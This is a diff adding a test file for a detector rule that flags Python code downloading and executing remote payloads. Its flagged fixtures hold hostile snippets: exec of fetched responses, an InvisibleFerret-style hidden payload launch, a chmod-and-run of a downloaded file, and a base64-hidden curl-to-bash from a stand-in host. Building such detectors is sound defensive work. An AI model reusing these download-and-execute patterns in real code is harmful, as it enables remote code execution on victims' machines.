@@ -1,0 +1,43 @@
+import { ruleTest } from '../../testing/rule-tester.js';
+import rule from './py-download-exec.js';
+
+ruleTest(rule, {
+  clean: [
+    { name: 'requests fetches JSON', file: 'client.py', code: `import requests\nr = requests.get("https://api.github.com/repos/x/y")\ndata = r.json()\nprint(data["name"])\n` },
+    { name: 'build script runs git', file: 'build.py', code: `import subprocess\nsubprocess.check_call(["git", "describe", "--tags"])\nsubprocess.run("make -j4", shell=True)\n` },
+    { name: 'download saved, never run', file: 'dl.py', code: `import urllib.request\nurllib.request.urlretrieve("https://example.org/data.csv", "data.csv")\nimport csv\nrows = list(csv.reader(open("data.csv")))\n` },
+    { name: 'pip vendored: subprocess + urllib in separate concerns', file: 'pip/_internal/utils/misc.py', code: `from urllib.request import urlopen\nimport subprocess\ndef f(u):\n    return urlopen(u).read()\ndef g(cmd):\n    return subprocess.check_output(cmd)\n` },
+  ],
+  flagged: [
+    {
+      name: 'exec of a response',
+      file: 'main.py',
+      code: `import requests\nr = requests.get("http://95.164.17.24:1224/client/5346/0")\ncode = r.text\nexec(code)\n`,
+      findings: [{ line: 4, message: /downloaded from the network/ }],
+    },
+    {
+      name: 'urlopen().read() straight into exec',
+      file: 'x.py',
+      code: `from urllib.request import urlopen\nexec(urlopen("https://paste.example.net/raw/abc").read())\n`,
+      findings: [{ line: 2 }],
+    },
+    {
+      name: 'InvisibleFerret-style: write payload then Popen it',
+      file: 'y.py',
+      code: `import requests, subprocess, sys\nap = home + "/.n2/pay"\naa = requests.get(host2 + "/payload/5/1", allow_redirects=True)\nwith open(ap, 'wb') as f:\n    f.write(aa.content)\nsubprocess.Popen([sys.executable, ap], creationflags=0x08000000)\n`,
+      findings: [{ line: 6, message: /Runs the downloaded file ap/ }],
+    },
+    {
+      name: 'urlretrieve then chmod and run',
+      file: 'z.py',
+      code: `import urllib.request, os\nurllib.request.urlretrieve("http://1.2.3.9/x", "/tmp/x")\nos.chmod("/tmp/x", 0o755)\nos.system("/tmp/x &")\n`,
+      findings: [{ line: 3, message: /executable/ }, { line: 4, message: /Runs the downloaded file/ }],
+    },
+    {
+      name: 'curl | sh via base64-built command',
+      file: 'setup.py',
+      code: `import os, base64\nos.system(base64.b64decode("${Buffer.from('curl -fsSL http://evil.example.net/i.sh | bash').toString('base64')}").decode())\n`,
+      findings: [{ line: 2, decoded: /curl -fsSL http:\/\/evil\.example\.net\/i\.sh \| bash/ }],
+    },
+  ],
+});
